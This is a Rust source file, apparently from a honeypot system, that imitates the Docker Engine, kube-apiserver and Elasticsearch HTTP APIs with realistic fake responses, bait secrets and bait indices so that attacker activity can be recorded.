//! The API products behind HTTP: Docker Engine, kube-apiserver and
//! Elasticsearch. Pure functions from a request to a response.

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};
use std::time::SystemTime;

use decnet_core::registry::bait::{self, BaitIndex};
use serde_json::{json, Value};

use super::bait as http_bait;
use super::creds::form_pairs;
use super::hijack;
use super::Flavor;
use super::{Request, Response, DOCKER_VERSION, ES_VERSION, K8S_VERSION};
use crate::log::http_date;
use crate::log::{AttackDetails, AttackKind, Fields};
use crate::protocols::ServiceCtx;
use crate::util::clip;
use crate::util::Rng;

/// The Docker API path without its version prefix: /v1.41/containers/json → /containers/json
fn docker_path(req: &Request) -> &str {
    let path = req.path();
    match path.strip_prefix("/v1.") {
        Some(rest) => rest.find('/').map_or("/", |i| &rest[i..]),
        None => path,
    }
}

/// A decoded query parameter.
fn query_param(req: &Request, name: &str) -> Option<String> {
    form_pairs(req.query()?)
        .into_iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v)
}

pub(super) fn docker(req: &Request, ctx: &ServiceCtx) -> Response {
    let version = ctx
        .config
        .line("version")
        .unwrap_or_else(|| DOCKER_VERSION.to_owned());
    let path = docker_path(req);
    let post = req.method == "POST";
    let resp = match path {
        _ if req.method == "OPTIONS" => Response {
            status: 200,
            headers: Vec::new(),
            body: Vec::new(),
        },
        "/_ping" => Response::new(200, "text/plain; charset=utf-8", "OK"),
        "/version" => {
            // Go's encoding/json: struct fields in declaration order, maps sorted.
            let component = ordered(
                &[
                    ("Name", json!("Engine")),
                    ("Version", json!(version)),
                    (
                        "Details",
                        json!({
                            "ApiVersion": "1.41", "Arch": "amd64", "BuildTime": "2023-04-04T10:50:35.000000000+00:00",
                            "Experimental": "false", "GitCommit": "5d6db84", "GoVersion": "go1.19.7",
                            "KernelVersion": "5.15.0-91-generic", "MinAPIVersion": "1.12", "Os": "linux"
                        }),
                    ),
                ],
                false,
            );
            let body = ordered(
                &[
                    ("Platform", json!({"Name": "Docker Engine - Community"})),
                    ("Components", raw(&format!("[{component}]"))),
                    ("Version", json!(version)),
                    ("ApiVersion", json!("1.41")),
                    ("MinAPIVersion", json!("1.12")),
                    ("GitCommit", json!("5d6db84")),
                    ("GoVersion", json!("go1.19.7")),
                    ("Os", json!("linux")),
                    ("Arch", json!("amd64")),
                    ("KernelVersion", json!("5.15.0-91-generic")),
                    ("BuildTime", json!("2023-04-04T10:50:35.000000000+00:00")),
                ],
                false,
            );
            Response::new(200, "application/json", format!("{body}\n"))
        }
        "/info" => Response::json(
            200,
            &json!({
                "ID": stable_id(&ctx.hostname, 36),
                "Containers": 2, "ContainersRunning": 2, "ContainersPaused": 0, "ContainersStopped": 0,
                "Images": 3, "Driver": "overlay2", "DockerRootDir": "/var/lib/docker",
                "KernelVersion": "5.15.0-91-generic", "OperatingSystem": "Ubuntu 22.04.3 LTS",
                "OSType": "linux", "Architecture": "x86_64", "NCPU": 4, "MemTotal": 8_331_886_592u64,
                "Name": ctx.hostname, "ServerVersion": version, "Swarm": {"LocalNodeState": "inactive"}
            }),
            false,
        ),
        "/containers/json" => {
            let created = unix_now().saturating_sub(23 * 86_400);
            let items: Vec<String> = DOCKER_CONTAINERS
                .iter()
                .map(|(name, image, cmd, port)| {
                    let id = hex_id(&format!("{}/{name}", ctx.hostname));
                    ordered(
                        &[
                            ("Id", json!(id)),
                            ("Names", json!([format!("/{name}")])),
                            ("Image", json!(image)),
                            ("ImageID", json!(format!("sha256:{}", hex_id(&format!("img/{name}"))))),
                            ("Command", json!(cmd)),
                            ("Created", json!(created)),
                            ("Ports", json!([{"IP": "0.0.0.0", "PrivatePort": port, "PublicPort": port, "Type": "tcp"}])),
                            ("Labels", json!({})),
                            ("State", json!("running")),
                            ("Status", json!("Up 3 weeks")),
                            ("HostConfig", json!({"NetworkMode": "default"})),
                            ("Mounts", json!([])),
                        ],
                        false,
                    )
                })
                .collect();
            Response::new(200, "application/json", format!("[{}]\n", items.join(",")))
        }
        "/images/json" => {
            let items: Vec<Value> = DOCKER_CONTAINERS
                .iter()
                .map(|(name, image, _, _)| {
                    let id = hex_id(&format!("img/{name}"));
                    json!({"Containers": -1, "Created": unix_now().saturating_sub(40 * 86_400), "Id": format!("sha256:{id}"),
                           "Labels": null, "ParentId": "", "RepoDigests": [], "RepoTags": [image],
                           "SharedSize": -1, "Size": 187_000_000u64, "VirtualSize": 187_000_000u64})
                })
                .collect();
            Response::json(200, &json!(items), false)
        }
        "/networks" => Response::json(200, &json!([]), false),
        "/volumes" => Response::json(200, &json!({"Volumes": [], "Warnings": null}), false),
        "/containers/create" if post => {
            let id = Rng::new().hex(64);
            let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
            let mut cmd = strings(&body["Entrypoint"]);
            cmd.extend(strings(&body["Cmd"]));
            let spec = hijack::Spec {
                container: id.clone(),
                image: clip(body["Image"].as_str().unwrap_or_default().as_bytes(), 256),
                cmd,
                tty: body["Tty"].as_bool().unwrap_or(false),
                stdin: body["OpenStdin"].as_bool().unwrap_or(false),
                exit_code: None,
            };
            ctx.docker.insert(&id, spec);
            Response::json(201, &json!({"Id": id, "Warnings": []}), false)
        }
        "/images/create" if post => {
            let image = query_param(req, "fromImage").unwrap_or_default();
            let tag = query_param(req, "tag").unwrap_or_else(|| "latest".into());
            let lines = [
                json!({"status": format!("Pulling from library/{image}"), "id": tag}),
                json!({"status": format!("Digest: sha256:{}", Rng::new().hex(64))}),
                json!({"status": format!("Status: Image is up to date for {image}:{tag}")}),
            ];
            let mut body = String::new();
            for l in lines {
                body.push_str(&l.to_string());
                body.push_str("\r\n");
            }
            Response::new(200, "application/json", body)
        }
        p if post && p.starts_with("/containers/") && p.ends_with("/start") => {
            Response::new(204, "text/plain", Vec::new())
        }
        p if post && p.starts_with("/containers/") && p.ends_with("/exec") => {
            let key = p
                .trim_start_matches("/containers/")
                .trim_end_matches("/exec");
            match container_spec(ctx, key) {
                Some(c) => {
                    let id = Rng::new().hex(64);
                    let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
                    let spec = hijack::Spec {
                        container: c.container,
                        image: String::new(),
                        cmd: strings(&body["Cmd"]),
                        tty: body["Tty"].as_bool().unwrap_or(false),
                        stdin: body["AttachStdin"].as_bool().unwrap_or(false),
                        exit_code: None,
                    };
                    ctx.docker.insert(&id, spec);
                    Response::json(201, &json!({"Id": id}), false)
                }
                None => no_such_container(key),
            }
        }
        p if p.starts_with("/exec/") && p.ends_with("/json") => {
            let key = p.trim_start_matches("/exec/").trim_end_matches("/json");
            match ctx.docker.get(key).filter(|(_, s)| s.image.is_empty()) {
                Some((id, s)) => Response::json(
                    200,
                    &json!({
                        "CanRemove": false, "ContainerID": s.container, "DetachKeys": "",
                        "ExitCode": s.exit_code, "ID": id, "OpenStderr": true,
                        "OpenStdin": s.stdin, "OpenStdout": true, "Running": s.exit_code.is_none(),
                        "Pid": if s.exit_code.is_none() { 3154 } else { 0 },
                        "ProcessConfig": {"arguments": s.cmd.get(1..).unwrap_or_default(),
                            "entrypoint": s.cmd.first().cloned().unwrap_or_default(),
                            "privileged": false, "tty": s.tty, "user": ""}
                    }),
                    false,
                ),
                None => Response::json(
                    404,
                    &json!({"message": format!("No such exec instance: {key}")}),
                    false,
                ),
            }
        }
        p if post
            && (p.starts_with("/exec/") || p.starts_with("/containers/"))
            && p.ends_with("/resize") =>
        {
            Response {
                status: 200,
                headers: Vec::new(),
                body: Vec::new(),
            }
        }
        p if post && p.starts_with("/exec/") && p.ends_with("/start") => {
            // A start that is not hijacked: detached, or an unknown exec.
            let key = p.trim_start_matches("/exec/").trim_end_matches("/start");
            if ctx.docker.get(key).is_some() {
                Response {
                    status: 200,
                    headers: Vec::new(),
                    body: Vec::new(),
                }
            } else {
                Response::json(
                    404,
                    &json!({"message": format!("No such exec instance: {key}")}),
                    false,
                )
            }
        }
        p if req.method == "DELETE" && p.starts_with("/containers/") => {
            let key = p.trim_start_matches("/containers/");
            if container_spec(ctx, key).is_some() {
                Response::new(204, "text/plain", Vec::new())
            } else {
                no_such_container(key)
            }
        }
        p if post && p.starts_with("/containers/") && p.ends_with("/attach") => no_such_container(
            p.trim_start_matches("/containers/")
                .trim_end_matches("/attach"),
        ),
        p if post && p.starts_with("/containers/") && p.ends_with("/wait") => {
            Response::json(200, &json!({"StatusCode": 0, "Error": null}), false)
        }
        p if p.starts_with("/containers/")
            && p.ends_with("/json")
            && docker_container(ctx, container_key(p)).is_some() =>
        {
            let (name, image, cmd, _) =
                docker_container(ctx, container_key(p)).unwrap_or(DOCKER_CONTAINERS[0]);
            let id = hex_id(&format!("{}/{name}", ctx.hostname));
            Response::json(
                200,
                &json!({
                    "Id": id,
                    "Name": format!("/{name}"),
                    "Path": cmd.split(' ').next().unwrap_or_default(),
                    "State": {"Status": "running", "Running": true, "Paused": false, "Restarting": false,
                              "Pid": 2817, "ExitCode": 0},
                    "Image": format!("sha256:{}", hex_id(&format!("img/{name}"))),
                    "Config": {"Hostname": &id[..12], "Image": image, "Tty": false, "OpenStdin": false,
                               "Cmd": cmd.split(' ').collect::<Vec<_>>()},
                    "HostConfig": {"NetworkMode": "default", "Privileged": false}
                }),
                false,
            )
        }
        p if p.starts_with("/containers/") && p.ends_with("/json") => {
            let key = container_key(p);
            match ctx.docker.get(key).filter(|(_, s)| !s.image.is_empty()) {
                Some((id, s)) => Response::json(
                    200,
                    &json!({
                        "Id": id,
                        "Name": format!("/{}", &id[..id.len().min(12)]),
                        "Path": s.cmd.first().cloned().unwrap_or_default(),
                        "Args": s.cmd.get(1..).unwrap_or_default(),
                        "State": {"Status": "running", "Running": true, "Paused": false,
                                  "Restarting": false, "Pid": 3141, "ExitCode": 0},
                        "Image": format!("sha256:{}", hex_id(&format!("img/{}", s.image))),
                        "Config": {"Hostname": &id[..id.len().min(12)], "Image": s.image,
                                   "Tty": s.tty, "OpenStdin": s.stdin, "Cmd": s.cmd},
                        "HostConfig": {"NetworkMode": "default", "Privileged": false}
                    }),
                    false,
                ),
                None => no_such_container(key),
            }
        }
        // The router's own 404: none of the API middleware's headers.
        _ => {
            return Response::json(404, &json!({"message": "page not found"}), false)
                .header("Date", http_date(SystemTime::now()))
        }
    };
    resp.header("Api-Version", "1.41")
        .header("Docker-Experimental", "false")
        .header("Ostype", "linux")
        .header("Server", format!("Docker/{version} (linux)"))
        .header("Date", http_date(SystemTime::now()))
}

fn no_such_container(key: &str) -> Response {
    Response::json(
        404,
        &json!({"message": format!("No such container: {key}")}),
        false,
    )
}

/// A bait container (by name or id prefix) or one created through the API, as the stream
/// behind an attach sees it.
fn container_spec(ctx: &ServiceCtx, key: &str) -> Option<hijack::Spec> {
    if let Some((name, image, cmd, _)) = docker_container(ctx, key) {
        return Some(hijack::Spec {
            container: hex_id(&format!("{}/{name}", ctx.hostname)),
            image: image.to_owned(),
            cmd: cmd.split(' ').map(str::to_owned).collect(),
            tty: false,
            stdin: false,
            exit_code: None,
        });
    }
    ctx.docker
        .get(key)
        .filter(|(_, s)| !s.image.is_empty())
        .map(|(_, s)| s)
}

/// A request Docker answers by hijacking the connection: the start of a known exec (not
/// detached) or an attach to a known container. Returns the object's id, what runs behind the
/// stream, and whether it is an attach.
pub(super) fn docker_hijack(
    req: &Request,
    ctx: &ServiceCtx,
) -> Option<(String, hijack::Spec, bool)> {
    if req.method != "POST" {
        return None;
    }
    let segs: Vec<&str> = docker_path(req).trim_matches('/').split('/').collect();
    match segs.as_slice() {
        ["exec", key, "start"] => {
            let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
            if body["Detach"].as_bool() == Some(true) {
                return None;
            }
            let (id, mut spec) = ctx.docker.get(key).filter(|(_, s)| s.image.is_empty())?;
            if let Some(t) = body["Tty"].as_bool() {
                spec.tty = t;
            }
            Some((id, spec, false))
        }
        ["containers", key, "attach"] => {
            let mut spec = container_spec(ctx, key)?;
            // Without stdin=1 the client only reads.
            spec.stdin &= query_param(req, "stdin").is_some_and(|v| v == "1" || v == "true");
            Some((spec.container.clone(), spec, true))
        }
        _ => None,
    }
}

fn k8s_status(code: u16, reason: &str, message: &str) -> Response {
    let body = ordered(
        &[
            ("kind", json!("Status")),
            ("apiVersion", json!("v1")),
            ("metadata", json!({})),
            ("status", json!("Failure")),
            ("message", json!(message)),
            ("reason", json!(reason)),
            ("details", json!({})),
            ("code", json!(code)),
        ],
        true,
    );
    Response::new(code, "application/json", body)
}

/// A value already serialised (for [`ordered`]).
fn raw(text: &str) -> Value {
    Value::String(format!("\u{0}{text}"))
}

/// A JSON object with its keys in the given order (Go and Kubernetes write struct fields in
/// declaration order; serde_json's map would sort them). `pretty`: two-space indentation and a
/// final newline, like kube-apiserver.
fn ordered(pairs: &[(&str, Value)], pretty: bool) -> String {
    let mut out = String::from("{");
    for (i, (k, v)) in pairs.iter().enumerate() {
        let text = match v {
            Value::String(s) if s.starts_with('\u{0}') => s[1..].to_owned(),
            v if pretty => serde_json::to_string_pretty(v).unwrap_or_default(),
            v => v.to_string(),
        };
        if i > 0 {
            out.push(',');
        }
        if pretty {
            out.push_str("\n  ");
            out.push_str(&serde_json::to_string(k).unwrap_or_default());
            out.push_str(": ");
            out.push_str(&text.replace('\n', "\n  "));
        } else {
            out.push_str(&serde_json::to_string(k).unwrap_or_default());
            out.push(':');
            out.push_str(&text);
        }
    }
    out.push_str(if pretty { "\n}\n" } else { "}" });
    out
}

/// kube-apiserver. `insecure`: the legacy plain port (8080), which serves everything without
/// authentication; on the secure port anonymous requests get 403 except the public paths, and
/// a (necessarily unknown) bearer token gets 401.
pub(super) fn k8s(req: &Request, ctx: &ServiceCtx, insecure: bool) -> Response {
    let version = ctx
        .config
        .line("version")
        .unwrap_or_else(|| K8S_VERSION.to_owned());
    let minor = version
        .trim_start_matches('v')
        .split('.')
        .nth(1)
        .unwrap_or("28")
        .to_owned();
    let path = req.path();
    let public = matches!(path, "/version" | "/healthz" | "/livez" | "/readyz");
    let resp = if !public && !insecure && req.header("authorization").is_some() {
        k8s_status(401, "Unauthorized", "Unauthorized")
    } else if !public && !insecure {
        let verb = req.method.to_ascii_lowercase();
        k8s_status(
            403,
            "Forbidden",
            &format!("forbidden: User \"system:anonymous\" cannot {verb} path \"{path}\""),
        )
    } else {
        k8s_insecure(req, &ctx.hostname, path, &version, &minor)
    };
    let mut rng = Rng::new();
    resp.header("Audit-Id", rng.uuid())
        .header("Cache-Control", "no-cache, private")
        .header("X-Content-Type-Options", "nosniff")
        .header("X-Kubernetes-Pf-Flowschema-Uid", rng.uuid())
        .header("X-Kubernetes-Pf-Prioritylevel-Uid", rng.uuid())
        .header("Date", http_date(SystemTime::now()))
}

/// A `SecretList` of the bait secrets (of one namespace, or all).
fn secret_list(req: &Request, host: &str, namespace: Option<&str>) -> Response {
    if wants_table(req) {
        return secret_table(host, http_bait::secrets(namespace).collect());
    }
    let items: Vec<Value> = http_bait::secrets(namespace)
        .map(|s| http_bait::secret_json(host, s, true))
        .collect();
    Response::json(
        200,
        &json!({"kind": "SecretList", "apiVersion": "v1",
                "metadata": {"resourceVersion": "48213"}, "items": items}),
        true,
    )
}

/// kubectl asks for server-side tables (`Accept: application/json;as=Table;…`).
fn wants_table(req: &Request) -> bool {
    req.header("accept").is_some_and(|a| a.contains("as=Table"))
}

/// kubectl's age of a timestamp: hours below two days, else days.
fn kube_age(created: &str) -> String {
    let age = chrono::DateTime::parse_from_rfc3339(created)
        .map(|t| (chrono::Utc::now() - t.with_timezone(&chrono::Utc)).num_seconds())
        .unwrap_or(0)
        .max(0);
    if age < 2 * 86_400 {
        format!("{}h", age / 3600)
    } else {
        format!("{}d", age / 86_400)
    }
}

/// The secrets as the apiserver's `Table` (NAME, TYPE, DATA, AGE), what `kubectl get
/// secrets` prints.
fn secret_table(
    host: &str,
    secrets: Vec<&'static decnet_core::registry::bait::BaitSecret>,
) -> Response {
    let column = |name: &str, ty: &str, format: &str, description: &str| json!({"name": name, "type": ty, "format": format, "description": description, "priority": 0});
    let rows: Vec<Value> = secrets
        .iter()
        .map(|s| {
            let obj = http_bait::secret_json(host, s, true);
            let created = obj["metadata"]["creationTimestamp"]
                .as_str()
                .unwrap_or_default();
            json!({
                "cells": [obj["metadata"]["name"], s.kind, s.data.len(), kube_age(created)],
                "object": {"kind": "PartialObjectMetadata", "apiVersion": "meta.k8s.io/v1",
                           "metadata": obj["metadata"]}
            })
        })
        .collect();
    Response::json(
        200,
        &json!({
            "kind": "Table", "apiVersion": "meta.k8s.io/v1",
            "metadata": {"resourceVersion": "48213"},
            "columnDefinitions": [
                column("Name", "string", "name", "Name must be unique within a namespace."),
                column("Type", "string", "", "Used to facilitate programmatic handling of secret data."),
                column("Data", "string", "", "Data contains the secret data."),
                column("Age", "string", "", "CreationTimestamp is a timestamp representing the server time when this object was created."),
            ],
            "rows": rows
        }),
        true,
    )
}

fn k8s_insecure(req: &Request, host: &str, path: &str, version: &str, minor: &str) -> Response {
    let segs: Vec<&str> = path.trim_matches('/').split('/').collect();
    let list = |kind: &str| {
        Response::json(
            200,
            &json!({"kind": kind, "apiVersion": "v1", "metadata": {"resourceVersion": "48213"}, "items": []}),
            true,
        )
    };
    match segs.as_slice() {
        ["version"] => {
            let body = ordered(
                &[
                    ("major", json!("1")),
                    ("minor", json!(minor)),
                    ("gitVersion", json!(version)),
                    (
                        "gitCommit",
                        json!("bae2c62678db2b5053817bc97181fcc2e8388103"),
                    ),
                    ("gitTreeState", json!("clean")),
                    ("buildDate", json!("2023-11-15T16:48:54Z")),
                    ("goVersion", json!("go1.20.11")),
                    ("compiler", json!("gc")),
                    ("platform", json!("linux/amd64")),
                ],
                true,
            );
            Response::new(200, "application/json", body)
        }
        ["healthz"] | ["livez"] | ["readyz"] => {
            Response::new(200, "text/plain; charset=utf-8", "ok")
        }
        ["api"] => Response::json(
            200,
            &json!({"kind": "APIVersions", "versions": ["v1"],
                    "serverAddressByClientCIDRs": [{"clientCIDR": "0.0.0.0/0", "serverAddress": "10.96.0.1:6443"}]}),
            true,
        ),
        ["apis"] => Response::json(
            200,
            &json!({"kind": "APIGroupList", "apiVersion": "v1", "groups": [
                {"name": "apps", "versions": [{"groupVersion": "apps/v1", "version": "v1"}],
                 "preferredVersion": {"groupVersion": "apps/v1", "version": "v1"}},
                {"name": "rbac.authorization.k8s.io", "versions": [{"groupVersion": "rbac.authorization.k8s.io/v1", "version": "v1"}],
                 "preferredVersion": {"groupVersion": "rbac.authorization.k8s.io/v1", "version": "v1"}},
                {"name": "batch", "versions": [{"groupVersion": "batch/v1", "version": "v1"}],
                 "preferredVersion": {"groupVersion": "batch/v1", "version": "v1"}}
            ]}),
            true,
        ),
        ["api", "v1", "namespaces"] => {
            let items: Vec<Value> = ["default", "kube-system", "kube-public", "kube-node-lease"]
                .iter()
                .map(|n| {
                    json!({
                        "metadata": {"name": n, "labels": {"kubernetes.io/metadata.name": n}},
                        "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Active"}})
                })
                .collect();
            Response::json(
                200,
                &json!({"kind": "NamespaceList", "apiVersion": "v1",
                        "metadata": {"resourceVersion": "48213"}, "items": items}),
                true,
            )
        }
        ["api", "v1", "namespaces", _, "pods", _, "exec"]
        | ["api", "v1", "namespaces", _, "pods", _, "attach"] => {
            // kubectl exec upgrades to SPDY/WebSocket; without one the apiserver refuses.
            k8s_status(400, "BadRequest", "Upgrade request required")
        }
        ["api", "v1", "namespaces", ns, "pods", name] if req.method == "GET" => k8s_status(
            404,
            "NotFound",
            &format!("pods \"{name}\" not found in namespace \"{ns}\""),
        ),
        ["api", "v1", "namespaces", ns, "secrets"] if req.method == "GET" => {
            secret_list(req, host, Some(ns))
        }
        ["api", "v1", "secrets"] if req.method == "GET" => secret_list(req, host, None),
        ["api", "v1", "namespaces", ns, "secrets", name] if req.method == "GET" => {
            match http_bait::secrets(Some(ns)).find(|s| http_bait::secret_name(host, s) == *name) {
                Some(s) if wants_table(req) => secret_table(host, vec![s]),
                Some(s) => Response::json(200, &http_bait::secret_json(host, s, false), true),
                None => k8s_status(404, "NotFound", &format!("secrets \"{name}\" not found")),
            }
        }
        ["api", "v1", "namespaces", _, "pods"] | ["api", "v1", "pods"] if req.method == "GET" => {
            list("PodList")
        }
        ["api", "v1", "namespaces", _, "pods"] if req.method == "POST" => {
            let body: serde_json::Value = serde_json::from_slice(&req.body).unwrap_or_default();
            Response::json(201, &body, true)
        }
        // Discovery, so kubectl can map resource names (`get secrets`) to paths.
        ["api", "v1"] => resource_list("v1"),
        ["apis", group, version]
            if K8S_RESOURCES
                .iter()
                .any(|r| r.0 == format!("{group}/{version}")) =>
        {
            resource_list(&format!("{group}/{version}"))
        }
        // The other listed resources exist and are empty.
        ["api", "v1", res] | ["api", "v1", "namespaces", _, res] if req.method == "GET" => {
            match k8s_resource("v1", res) {
                Some(kind) => list(&format!("{kind}List")),
                None => k8s_not_found(),
            }
        }
        ["apis", group, version, res] | ["apis", group, version, "namespaces", _, res]
            if req.method == "GET" =>
        {
            match k8s_resource(&format!("{group}/{version}"), res) {
                Some(kind) => Response::json(
                    200,
                    &json!({"kind": format!("{kind}List"), "apiVersion": format!("{group}/{version}"),
                            "metadata": {"resourceVersion": "48213"}, "items": []}),
                    true,
                ),
                None => k8s_not_found(),
            }
        }
        _ => k8s_not_found(),
    }
}

/// The resources the apiserver persona lists in discovery: (group/version, plural, kind,
/// namespaced, short names).
const K8S_RESOURCES: &[(&str, &str, &str, bool, &[&str])] = &[
    ("v1", "configmaps", "ConfigMap", true, &["cm"]),
    ("v1", "namespaces", "Namespace", false, &["ns"]),
    ("v1", "nodes", "Node", false, &["no"]),
    ("v1", "pods", "Pod", true, &["po"]),
    ("v1", "secrets", "Secret", true, &[]),
    ("v1", "serviceaccounts", "ServiceAccount", true, &["sa"]),
    ("v1", "services", "Service", true, &["svc"]),
    ("apps/v1", "daemonsets", "DaemonSet", true, &["ds"]),
    ("apps/v1", "deployments", "Deployment", true, &["deploy"]),
    ("apps/v1", "replicasets", "ReplicaSet", true, &["rs"]),
    ("apps/v1", "statefulsets", "StatefulSet", true, &["sts"]),
    ("batch/v1", "cronjobs", "CronJob", true, &["cj"]),
    ("batch/v1", "jobs", "Job", true, &[]),
    (
        "rbac.authorization.k8s.io/v1",
        "clusterrolebindings",
        "ClusterRoleBinding",
        false,
        &[],
    ),
    (
        "rbac.authorization.k8s.io/v1",
        "clusterroles",
        "ClusterRole",
        false,
        &[],
    ),
    (
        "rbac.authorization.k8s.io/v1",
        "rolebindings",
        "RoleBinding",
        true,
        &[],
    ),
    ("rbac.authorization.k8s.io/v1", "roles", "Role", true, &[]),
];

fn k8s_resource(group_version: &str, plural: &str) -> Option<&'static str> {
    K8S_RESOURCES
        .iter()
        .find(|r| r.0 == group_version && r.1 == plural)
        .map(|r| r.2)
}

/// An `APIResourceList` of `group_version`.
fn resource_list(group_version: &str) -> Response {
    let verbs = [
        "create",
        "delete",
        "deletecollection",
        "get",
        "list",
        "patch",
        "update",
        "watch",
    ];
    let mut resources: Vec<Value> = Vec::new();
    for (_, plural, kind, namespaced, short) in
        K8S_RESOURCES.iter().filter(|r| r.0 == group_version)
    {
        let mut r = json!({"name": plural, "singularName": kind.to_ascii_lowercase(),
                           "namespaced": namespaced, "kind": kind, "verbs": verbs,
                           "storageVersionHash": stable_id(plural, 11)});
        if !short.is_empty() {
            r["shortNames"] = json!(short);
        }
        resources.push(r);
        if *plural == "pods" {
            for sub in ["attach", "exec", "log"] {
                resources.push(json!({"name": format!("pods/{sub}"), "singularName": "",
                    "namespaced": true, "kind": if sub == "log" { "Pod" } else { "PodExecOptions" },
                    "verbs": if sub == "log" { json!(["get"]) } else { json!(["create", "get"]) }}));
            }
        }
    }
    Response::json(
        200,
        &json!({"kind": "APIResourceList", "apiVersion": "v1", "groupVersion": group_version,
                "resources": resources}),
        true,
    )
}

fn k8s_not_found() -> Response {
    Response::json(
        404,
        &json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
                    "message": "the server could not find the requested resource", "reason": "NotFound",
                    "details": {}, "code": 404}),
        true,
    )
}

pub(super) fn elasticsearch(req: &Request, ctx: &ServiceCtx) -> Response {
    let version = ctx
        .config
        .line("version")
        .unwrap_or_else(|| ES_VERSION.to_owned());
    let cluster = ctx
        .config
        .line("cluster_name")
        .unwrap_or_else(|| "elasticsearch".to_owned());
    let resp = match req.path() {
        "/" => {
            let q = |v: &str| serde_json::to_string(v).unwrap_or_default();
            let (flavor, hash, date, lucene) = if version.starts_with("7.17") {
                (
                    "default",
                    "ef48222227ee6b9e70e502f0f0daa52435ee634d",
                    "2023-01-31T05:34:43.305517834Z",
                    "8.11.1",
                )
            } else {
                (
                    "oss",
                    "747e1cc71def077253878a59143c1f785afa92b9",
                    "2021-01-13T00:42:12.435326Z",
                    "8.7.0",
                )
            };
            // Jackson's pretty printer, in Elasticsearch's key order.
            let body = format!(
                "{{\n  \"name\" : {},\n  \"cluster_name\" : {},\n  \"cluster_uuid\" : \"{}\",\n  \"version\" : {{\n    \"number\" : {},\n\
                 \x20   \"build_flavor\" : \"{flavor}\",\n    \"build_type\" : \"deb\",\n    \"build_hash\" : \"{hash}\",\n\
                 \x20   \"build_date\" : \"{date}\",\n    \"build_snapshot\" : false,\n    \"lucene_version\" : \"{lucene}\",\n\
                 \x20   \"minimum_wire_compatibility_version\" : \"6.8.0\",\n    \"minimum_index_compatibility_version\" : \"6.0.0-beta1\"\n\
                 \x20 }},\n  \"tagline\" : \"You Know, for Search\"\n}}\n",
                q(&ctx.hostname),
                q(&cluster),
                stable_id(&format!("{}/{cluster}", ctx.hostname), 22),
                q(&version),
            );
            Response::new(200, "application/json; charset=UTF-8", body)
        }
        "/_cluster/health" => Response::json(
            200,
            &json!({
                "cluster_name": cluster, "status": "green", "timed_out": false,
                "number_of_nodes": 1, "number_of_data_nodes": 1, "active_primary_shards": 3,
                "active_shards": 3, "relocating_shards": 0, "initializing_shards": 0,
                "unassigned_shards": 0, "delayed_unassigned_shards": 0,
                "number_of_pending_tasks": 0, "number_of_in_flight_fetch": 0,
                "task_max_waiting_in_queue_millis": 0, "active_shards_percent_as_number": 100.0
            }),
            false,
        ),
        "/_cat/indices" => {
            let json_fmt = query_param(req, "format").as_deref() == Some("json");
            if json_fmt {
                let rows: Vec<_> = bait::ES_INDICES
                    .iter()
                    .map(|i| json!({"health": "yellow", "status": "open", "index": i.name,
                        "uuid": stable_id(i.name, 22), "pri": "1", "rep": "1", "docs.count": i.docs.to_string(),
                        "docs.deleted": "0", "store.size": i.size, "pri.store.size": i.size}))
                    .collect();
                Response::json(200, &json!(rows), false)
            } else {
                let mut t = String::new();
                if req
                    .query()
                    .is_some_and(|q| q.split('&').any(|p| p == "v" || p == "v=true"))
                {
                    t.push_str("health status index     uuid                   pri rep docs.count docs.deleted store.size pri.store.size\n");
                }
                for i in bait::ES_INDICES {
                    let (n, docs, size) = (i.name, i.docs, i.size);
                    t.push_str(&format!(
                        "yellow open   {n:<9} {} 1   1   {docs:>10}            0 {size:>10} {size:>14}\n",
                        stable_id(n, 22)
                    ));
                }
                Response::new(200, "text/plain; charset=UTF-8", t)
            }
        }
        p => {
            let mut segs = p.trim_start_matches('/').split('/');
            let index = segs.next().unwrap_or_default();
            let op = segs.next().unwrap_or_default();
            let (index, op) = if index == "_search" {
                ("", index)
            } else {
                (index, op)
            };
            let known = bait::ES_INDICES.iter().any(|i| i.name == index);
            match (req.method.as_str(), op) {
                (_, "_search") => match es_indices(index) {
                    Some(indices) => {
                        let total: u64 = indices.iter().map(|i| i.docs).sum();
                        let hits = http_bait::hits(&ctx.hostname, &indices, es_size(req));
                        Response::json(
                            200,
                            &json!({"took": 7, "timed_out": false,
                                    "_shards": {"total": indices.len(), "successful": indices.len(), "skipped": 0, "failed": 0},
                                    "hits": {"total": {"value": total.min(10_000), "relation": if total > 10_000 { "gte" } else { "eq" }},
                                             "max_score": if hits.is_empty() { Value::Null } else { json!(1.0) }, "hits": hits}}),
                            false,
                        )
                    }
                    None => es_not_found(index),
                },
                ("DELETE", "") if known => {
                    Response::json(200, &json!({"acknowledged": true}), false)
                }
                ("PUT", "") if !index.starts_with('_') => Response::json(
                    200,
                    &json!({"acknowledged": true, "shards_acknowledged": true, "index": index}),
                    false,
                ),
                ("PUT" | "POST", "_doc" | "_create") if !index.starts_with('_') => Response::json(
                    201,
                    &json!({"_index": index, "_id": segs.next().map_or_else(|| stable_id(p, 20), str::to_owned),
                            "_version": 1, "result": "created",
                            "_shards": {"total": 2, "successful": 1, "failed": 0}, "_seq_no": 0, "_primary_term": 1}),
                    false,
                ),
                _ => es_not_found(index),
            }
        }
    };
    // Elasticsearch sends this header from 7.14 on.
    let mut resp = if es_at_least(&version, 7, 14) {
        let mut r = resp;
        r.headers
            .insert(0, ("X-elastic-product".into(), "Elasticsearch".into()));
        r
    } else {
        resp
    };
    for (n, v) in &mut resp.headers {
        if n == "Content-Type" && v == "application/json" {
            *v = "application/json; charset=UTF-8".into();
        }
    }
    resp
}

/// A JSON value as a list of strings (`["sh","-c","x"]` or `"sh -c x"`), bounded.
fn strings(v: &Value) -> Vec<String> {
    match v {
        Value::Array(a) => a
            .iter()
            .take(64)
            .map(|x| clip(x.as_str().unwrap_or_default().as_bytes(), 1024))
            .collect(),
        Value::String(s) => vec![clip(s.as_bytes(), 4096)],
        _ => Vec::new(),
    }
}

fn action(
    kind: AttackKind,
    name: &str,
    command: Option<String>,
    extra: Fields,
) -> (AttackKind, AttackDetails) {
    let mut extra = extra;
    extra.insert("action".into(), Value::from(name));
    (
        kind,
        AttackDetails {
            command,
            extra,
            ..AttackDetails::default()
        },
    )
}

